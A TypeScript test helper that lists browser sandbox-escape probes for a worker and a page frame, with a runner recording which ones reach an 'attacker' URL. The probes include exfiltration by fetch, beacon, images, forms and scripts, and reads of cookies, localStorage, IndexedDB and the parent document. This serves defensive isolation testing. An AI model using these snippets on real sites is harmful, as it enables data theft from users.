/**
 * What a hostile app would try, as source texts, since they run in places that a test cannot call into. A probe gets `url`, which the
 * attacker counts, and may return something truthy when it got hold of what it must not have.
 */

/** In the worker; `import()` is missing because the compiler refuses it. Each one succeeds in a plain worker of the host's origin, which the control run shows. */
export const workerProbes: Readonly<Record<string, string>> = {
  fetch: `await fetch(url)`,
  xmlHttpRequest: `const r = new XMLHttpRequest(); r.open('GET', url); r.send(); await wait()`,
  xmlHttpRequestSync: `const r = new XMLHttpRequest(); r.open('GET', url, false); r.send()`,
  webSocket: `new WebSocket(url.replace('http', 'ws')); await wait()`,
  eventSource: `new EventSource(url); await wait()`,
  importScripts: `importScripts(url)`,
  nestedWorkerByUrl: `new Worker(url); await wait()`,
  nestedWorkerByBlob: `new Worker(URL.createObjectURL(new Blob(['fetch("' + url + '")']))); await wait()`,
  nestedWorkerByData: `new Worker('data:text/javascript,' + encodeURIComponent('fetch("' + url + '")')); await wait()`,
  fontFace: `await new FontFace('x', 'url(' + url + ')').load()`,
  evaluate: `return (0, eval)('1 + 1')`,
  functionConstructor: `return Function('return 2')()`,
  functionOfAFunction: `return (() => 0).constructor('return 2')()`,
  asyncFunction: `return await (async () => 0).constructor('return 2')()`,
  generatorFunction: `return (function* () {}).constructor('yield 2')().next().value`,
  textTimer: `globalThis.timed = 0; setTimeout('globalThis.timed = 1', 0); await wait(); return globalThis.timed`,
  webAssembly: `await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); return true`,
  fetchOfThePrototype: `return typeof Object.getPrototypeOf(self).fetch === 'function' || typeof WorkerGlobalScope.prototype.fetch === 'function' || await fetch.call(self, url)`,
  constructorOfTheGlobal: `return /Worker/.test(String(self.constructor))`,
  indexedDatabase: `return await new Promise((resolve, reject) => { const r = indexedDB.open('secret'); r.onsuccess = () => resolve(r.result.objectStoreNames.length); r.onerror = reject })`,
  cacheStorage: `return await (await caches.match('/secret')).text()`,
  privateFiles: `return await (await navigator.storage.getDirectory()).getFileHandle('secret')`,
  broadcast: `return await new Promise((resolve, reject) => { const c = new BroadcastChannel('secret'); c.onmessage = () => resolve(true); c.postMessage('ask'); setTimeout(reject, 1000) })`,
  locks: `return (await navigator.locks.query()).held.some(({ name }) => name === 'secret')`,
  location: `return self.location.origin.startsWith('http')`,
  messageToTheOwner: `self.postMessage('leak'); return true`,
  messagesOfOthers: `self.onmessage = () => 0; return typeof self.addEventListener === 'function' && 'onmessage' in self`,
  offscreenPicture: `return new OffscreenCanvas(1, 1).getContext('2d') !== null`,
}

/** In a page frame, as if the view had been taken over. Nothing of these may reach the attacker or read the host. */
export const viewProbes: Readonly<Record<string, string>> = {
  fetch: `await fetch(url)`,
  xmlHttpRequest: `const r = new XMLHttpRequest(); r.open('GET', url); r.send(); await wait()`,
  webSocket: `new WebSocket(url.replace('http', 'ws')); await wait()`,
  eventSource: `new EventSource(url); await wait()`,
  beacon: `navigator.sendBeacon(url); await wait()`,
  image: `new Image().src = url; await wait()`,
  backgroundImage: `document.body.style.backgroundImage = 'url(' + url + ')'; await wait()`,
  styleImport: `document.head.append(Object.assign(document.createElement('style'), { textContent: '@import "' + url + '";' })); await wait()`,
  styleSheet: `document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: url })); await wait()`,
  fontFace: `await new FontFace('x', 'url(' + url + ')').load()`,
  prefetch: `document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: url })); await wait()`,
  preload: `document.head.append(Object.assign(document.createElement('link'), { rel: 'preload', as: 'fetch', href: url, crossOrigin: '' })); await wait()`,
  script: `document.head.append(Object.assign(document.createElement('script'), { src: url })); await wait()`,
  moduleScript: `document.head.append(Object.assign(document.createElement('script'), { type: 'module', textContent: 'import ' + JSON.stringify(url) })); await wait()`,
  frame: `document.body.append(Object.assign(document.createElement('iframe'), { src: url })); await wait()`,
  object: `document.body.append(Object.assign(document.createElement('object'), { data: url })); await wait()`,
  video: `document.body.append(Object.assign(document.createElement('video'), { src: url })); await wait()`,
  worker: `new Worker(URL.createObjectURL(new Blob(['fetch("' + url + '")']))); await wait()`,
  form: `const f = Object.assign(document.createElement('form'), { action: url, method: 'post' }); document.body.append(f); f.submit(); await wait()`,
  newWindow: `open(url); await wait()`,
  link: `const a = Object.assign(document.createElement('a'), { href: url, target: '_blank' }); document.body.append(a); a.click(); await wait()`,
  parentDocument: `return parent.document.title`,
  parentLocation: `parent.location.href = url; await wait()`,
  localStorage: `return localStorage.getItem('secret')`,
  cookies: `return document.cookie`,
  indexedDatabase: `return await new Promise((resolve, reject) => { const r = indexedDB.open('secret'); r.onsuccess = () => resolve(r.result.objectStoreNames.length); r.onerror = reject })`,
  cacheStorage: `return await (await caches.match('/secret')).text()`,
  peerConnection: `return new RTCPeerConnection() !== null`,
  markup: `if (!self.trustedTypes) throw new Error('none'); return Object.assign(document.createElement('div'), { innerHTML: '<b></b>' }).firstChild !== null`,
  foreignScript: `if (!self.trustedTypes) throw new Error('none'); return Object.assign(document.createElement('script'), { src: url }).src !== ''`,
  rulesOfOwn: `return trustedTypes.createPolicy('own', { createHTML: String }) !== null`,
  // The last one, as it would end the others.
  ownLocation: `location.href = url; await wait()`,
}

/** A function that runs the probes at once and tells for each what it returned or why it was refused. */
export function probeRunner(probes: Readonly<Record<string, string>>): string {
  const members = Object.entries(probes).map(([name, body]) => `${name}: async (url) => { ${body} }`)
  return `function (attacker) {
    const wait = () => new Promise((resolve) => setTimeout(resolve, 200))
    const probes = { ${members.join(',\n')} }
    const run = async (name) => {
      try { return [name, { got: String((await probes[name](attacker + '/?probe=' + name)) || '') }] }
      catch (error) { return [name, { refused: String(error) }] }
    }
    const patience = (name) => new Promise((resolve) => setTimeout(resolve, 3000, [name, { refused: 'no answer' }]))
    return Promise.all(Object.keys(probes).map((name) => Promise.race([run(name), patience(name)]))).then(Object.fromEntries)
  }`
}

export type ProbeResults = Readonly<Record<string, { got?: string; refused?: string }>>
